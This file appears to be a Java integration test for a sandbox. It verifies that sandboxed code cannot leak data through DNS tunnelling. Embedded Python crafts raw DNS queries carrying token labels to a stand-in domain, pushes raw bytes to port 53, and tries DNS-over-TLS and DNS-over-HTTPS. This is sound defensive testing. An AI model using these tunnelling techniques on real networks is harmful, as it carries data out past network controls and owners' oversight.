// SPDX-FileCopyrightText: 2026 The Cloister authors
// SPDX-License-Identifier: Apache-2.0
package dev.cloister.system.attack;

import static org.assertj.core.api.Assertions.assertThat;

import dev.cloister.system.AsEachUser;
import dev.cloister.system.LauncherExtension;
import dev.cloister.system.LauncherExtension.Launchers;
import dev.cloister.system.world.User;
import dev.cloister.system.world.World;
import dev.cloister.system.world.Zone;
import org.junit.jupiter.api.extension.ExtendWith;

/// Carrying data out in questions: nothing that a label says may reach anybody's name server.
@ExtendWith(LauncherExtension.class)
final class DnsTunnelIT {
    private static final String QUESTIONS = Python.TRIES + """
            def question(name, kind, tail=b''):
                labels = b''.join(bytes([len(each)]) + each for each in name.encode().split(b'.'))
                return b'\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0' + labels + b'\\0' + struct.pack('>HH', kind, 1) + tail

            def ask(server, name, kind):
                udp(server, 53, question(name, kind))
                stream = question(name, kind)
                tcp(server, 53, struct.pack('>H', len(stream)) + stream, 0.2)

            """;

    private final World world;
    private final Launchers launchers;

    DnsTunnelIT(World world, Launchers launchers) {
        this.world = world;
        this.launchers = launchers;
    }

    @AsEachUser
    void carriesNoLabelOfARefusedNameInAnyTypeToAnyServer(User user) {
        var server = world.fresh();
        var ended = launchers
                .as(user)
                .allowing("host: allowed.test")
                .python(QUESTIONS + """
                for kind in (1, 28, 16, 10, 15, 33, 255, 5, 2, 12, 65, 64, 257, 6, 48, 252, 65400):
                    for server in ('127.0.0.1', '%s', '%s'):
                        ask(server, 'token-label-%%d.tunnel.test' %% kind, kind)
                """.formatted(Zone.RESOLVER, server.four()));
        assertThat(ended.exit()).as(ended.toString()).isZero();
        assertThat(world.heard("token-label")).isFalse();
        assertThat(world.heard("tunnel.test")).isFalse();
        assertThat(world.reached(server)).isFalse();
    }

    @AsEachUser
    void carriesNothingInLabelsBelowAnAllowedName(User user) {
        var target = world.fresh();
        var ended =
                launchers.as(user).allowing("host: " + target.name()).python(QUESTIONS + """
                for kind in (1, 28, 16, 33, 65): ask('127.0.0.1', 'token-below.%s', kind)
                """.formatted(target.name()));
        assertThat(ended.exit()).as(ended.toString()).isZero();
        assertThat(world.heard("token-below")).isFalse();
    }

    @AsEachUser
    void carriesNoLongestLabelsAndNames(User user) {
        var ended = launchers.as(user).allowing("host: allowed.test").python(QUESTIONS + """
                longest = 'token-longest-'.ljust(63, 'x')
                ask('127.0.0.1', longest + '.tunnel.test', 1)
                ask('127.0.0.1', '.'.join([longest] * 3 + ['y' * 40, 'tunnel', 'test']), 16)
                ask('127.0.0.1', longest + '.allowed.test', 1)
                """);
        assertThat(ended.exit()).as(ended.toString()).isZero();
        assertThat(world.heard("token-longest")).isFalse();
    }

    @AsEachUser
    void holdsAWildcardToItsBudgetOfNames(User user) {
        var ended = launchers
                .as(user)
                .allowing("host: '*.wild.test', names: 5, ports: [7000]")
                .python(Python.TRIES + """
                for number in range(40):
                    try: tcp(lease('token-budget-%d.wild.test' % number), 7000, b'hi', 0.2)
                    except OSError as error: print('NO', number, error)
                """);
        var heard = world.internet().sightings().stream()
                .filter(seen -> seen.kind().equals("dns") && seen.text().contains("token-budget"))
                .map(seen -> seen.text().replaceAll(".* ", ""))
                .distinct()
                .count();
        assertThat(ended.stdout()).as(ended.toString()).contains("CONNECTED");
        assertThat(heard).isBetween(1L, user == User.ROOT ? 5L : 10L);
        assertThat(ended.recorded(event -> event.reason().equals("budget_exhausted")))
                .as(ended.toString())
                .isTrue();
    }

    @AsEachUser
    void carriesNoRawBytesOnTheResolversPort(User user) {
        var server = world.fresh();
        var ended = launchers
                .as(user)
                .allowing("host: allowed.test")
                .python(QUESTIONS + """
                for server in ('127.0.0.1', '%s', '%s', '%s'):
                    udp(server, 53, b'token-raw-bytes')
                    udp(server, 53, question('allowed.test', 1, b'token-raw-tail'))
                    tcp(server, 53, b'\\0\\x10token-raw-stream', 0.5)
                """.formatted(Zone.RESOLVER, server.four(), server.six()));
        assertThat(ended.exit()).as(ended.toString()).isZero();
        assertThat(world.heard("token-raw")).isFalse();
        assertThat(world.reached(server)).isFalse();
    }

    @AsEachUser
    void reachesNoResolverOverTlsOrHttps(User user) {
        var server = world.fresh();
        var ended = launchers
                .as(user)
                .allowing("host: allowed.test")
                .python(Python.TRIES + """
                for address in ('%s', '%s', lease('%s')):
                    tcp(address, 853, b'token-dot')
                    tcp(address, 443, b'token-doh')
                """.formatted(server.four(), server.six(), server.name()));
        assertThat(ended.stdout()).as(ended.toString()).doesNotContain("CONNECTED");
        assertThat(world.reached(server)).isFalse();
    }

    @AsEachUser
    void asksUpstreamForAnAllowedNameOnlyWhenAConnectionNeedsIt(User user) {
        var target = world.fresh();
        var ended = launchers
                .as(user)
                .allowing("host: " + target.name())
                .sh("getent ahosts %s; getent ahosts %s".formatted(target.name(), target.name()));
        assertThat(ended.stdout()).as(ended.toString()).contains("198.1");
        assertThat(world.heard(target.name())).isFalse();
    }
}
